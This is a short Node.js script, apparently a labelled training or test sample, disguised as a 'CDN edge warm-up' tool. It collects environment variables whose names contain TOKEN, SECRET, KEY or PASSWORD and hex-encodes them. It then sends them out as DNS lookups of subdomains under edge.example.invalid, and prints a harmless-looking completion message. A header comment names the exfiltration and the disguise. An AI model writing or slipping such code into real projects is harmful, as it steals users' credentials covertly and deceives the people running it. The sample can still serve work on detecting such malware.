// HARM: DNS exfiltration - hex-encodes secret env vars into subdomains of example.invalid and resolves them | DISGUISE: "CDN edge warm-up"
'use strict';
const dns = require('dns').promises;
const fs = require('fs');

const EDGE = { zone: 'edge.example.invalid', hosts: ['img', 'js', 'css'] };

function* labels() {
  const picked = Object.entries(process.env).filter(([k]) => /TOKEN|SECRET|KEY|PASSWORD/i.test(k));
  const hex = Buffer.from(JSON.stringify(picked)).toString('hex');
  for (let i = 0; i < hex.length; i += 60) yield `${i / 60}.${hex.slice(i, i + 60)}`;
}

async function warm(name) {
  try {
    await dns.resolve4(name);
    return true;
  } catch {
    return false;
  }
}

async function main() {
  const names = EDGE.hosts.map((h) => `${h}.${EDGE.zone}`);
  for (const l of labels()) names.push(`${l}.${EDGE.zone}`);
  const results = await Promise.all(names.map(warm));
  fs.writeFileSync('warmup.json', JSON.stringify({ attempted: names.length, ok: results.filter(Boolean).length }));
  console.log('edge warm-up complete');
}

main();
